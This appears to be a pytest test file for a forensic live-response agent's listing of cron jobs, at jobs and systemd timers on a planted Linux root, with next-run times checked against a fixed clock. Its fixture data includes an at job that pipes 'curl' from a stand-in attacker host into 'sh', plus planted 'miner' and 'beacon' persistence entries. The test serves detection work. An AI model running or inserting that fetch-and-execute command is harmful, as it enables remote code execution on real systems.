"""scheduledtasks over a planted root: cron (seven kinds with at), timers, next runs for a fixed now."""

from __future__ import annotations

import os
from datetime import UTC, datetime
from pathlib import Path

import pytest

from liveresponse.agent.commands import scheduledtasks
from liveresponse.agent.commands.context import CommandContext
from liveresponse.agent.platform.linux.rootfs import FsRoot
from liveresponse.agent.platform.linux.scheduled import list_scheduled_tasks
from tests.agent.planting import AT_RUN, at_job_name, plant_jobs, plant_user_timer

NOW = datetime(2030, 1, 1, 10, 7, 30, tzinfo=UTC)  # a Tuesday


@pytest.fixture
def planted(tmp_path: Path) -> Path:
    plant_jobs(tmp_path)
    plant_user_timer(tmp_path)
    return tmp_path


def by_name(rows: list[dict]) -> dict[str, dict]:
    return {row["name"]: row for row in rows}


def test_cron_and_at_entries_with_next_run(planted: Path) -> None:
    rows = by_name(list(list_scheduled_tasks(FsRoot(str(planted)), now=NOW)))
    expected = {
        "/etc/crontab:4": ("*/5 * * * *", "/usr/local/bin/sync-all --quiet", "bob", "/etc/crontab",
                           "2030-01-01T10:10:00.000000Z"),
        "/etc/cron.d/backup:3": ("30 2 * * 1-5", "/opt/backup/run.sh --full", "root", "/etc/cron.d/backup",
                                 "2030-01-02T02:30:00.000000Z"),
        "/etc/cron.daily/cleanup": ("25 6 * * *", "/etc/cron.daily/cleanup", "root", "/etc/cron.daily/cleanup",
                                    "2030-01-02T06:25:00.000000Z"),
        "/var/spool/cron/crontabs/alice:2": ("0 */2 * * *", "/home/alice/bin/miner -q", "alice",
                                             "/var/spool/cron/crontabs/alice", "2030-01-01T12:00:00.000000Z"),
        "/var/spool/cron/crontabs/alice:3": ("@reboot", "/home/alice/.local/bin/agent --daemon", "alice",
                                             "/var/spool/cron/crontabs/alice", None),
        "/var/spool/cron/bob:1": ("15 3 * * sun", "/usr/bin/python3 /home/bob/report.py", "bob",
                                  "/var/spool/cron/bob", "2030-01-06T03:15:00.000000Z"),
        "at:7": ("2030-01-02T03:04:00.000000Z", "/usr/bin/curl -s http://evil.example/x | sh", "alice",
                 f"/var/spool/cron/atjobs/{at_job_name(7, AT_RUN)}", "2030-01-02T03:04:00.000000Z"),
    }  # fmt: skip
    for name, (schedule, command, user, source, next_run) in expected.items():
        row = rows[name]
        assert (row["schedule"], row["command"], row["user"], row["source"], row["next_run"]) == (
            schedule, command, user, source, next_run,
        ), name  # fmt: skip
    assert rows["/var/spool/cron/crontabs/alice:3"]["next_run_reason"] == "runs at boot (@reboot), no clock time"
    assert rows["/etc/crontab:5"]["command"].startswith("test -x /usr/sbin/anacron")


def test_timers_with_calendar_and_monotonic_schedules(planted: Path) -> None:
    rows = by_name(list(list_scheduled_tasks(FsRoot(str(planted)), now=NOW)))
    beacon = rows["user:alice/beacon.timer"]
    assert beacon["schedule"] == "OnCalendar=Mon..Fri 09:30"
    assert beacon["command"] == "/home/alice/.local/bin/beacon --ping"
    assert beacon["user"] == "alice"
    assert beacon["source"] == "/home/alice/.config/systemd/user/beacon.timer"
    assert beacon["next_run"] == "2030-01-02T09:30:00.000000Z"
    assert beacon["enabled"] is True
    assert beacon["enabled_by"] == ["/home/alice/.config/systemd/user/timers.target.wants/beacon.timer"]
    clean = rows["clean.timer"]
    assert clean["user"] == "svc" and clean["command"] == "/usr/bin/clean --all" and clean["enabled"] is False
    assert clean["next_run"] is None
    assert clean["next_run_reason"] == (
        "OnBootSec=15min, OnUnitActiveSec=1d is relative to boot or unit activity, known only to systemd"
    )


def test_root_time_zone_moves_next_runs(planted: Path) -> None:
    (planted / "etc/localtime").symlink_to("/usr/share/zoneinfo/Europe/Berlin")
    (planted / "usr/share/zoneinfo/Europe").mkdir(parents=True)
    (planted / "usr/share/zoneinfo/Europe/Berlin").write_bytes(Path("/usr/share/zoneinfo/Europe/Berlin").read_bytes())
    rows = by_name(list(list_scheduled_tasks(FsRoot(str(planted)), now=NOW)))
    assert rows["/etc/cron.d/backup:3"]["next_run"] == "2030-01-02T01:30:00.000000Z"  # 02:30 in Berlin


def test_handler_filters_by_name_and_marks_the_root(planted: Path) -> None:
    rows = list(scheduledtasks.run(CommandContext(root=str(planted)), {"name": "/var/spool/cron/*"}))
    assert sorted(row["name"] for row in rows) == [
        "/var/spool/cron/bob:1",
        "/var/spool/cron/crontabs/alice:2",
        "/var/spool/cron/crontabs/alice:3",
    ]
    assert all(row["root"] == str(planted) for row in rows)
    timers = list(scheduledtasks.run(CommandContext(), {"name": "*.timer", "root": str(planted)}))
    assert {row["name"] for row in timers} == {"user:alice/beacon.timer", "clean.timer"}


def test_live_system_lists_without_error() -> None:
    rows = list(scheduledtasks.run(CommandContext(), {}))
    for row in rows:
        assert set(row) >= {"name", "schedule", "command", "user", "source", "next_run"}
    if os.path.exists("/etc/systemd/system/timers.target.wants/apt-daily.timer"):
        assert any(row["name"] == "apt-daily.timer" and row["enabled"] for row in rows)
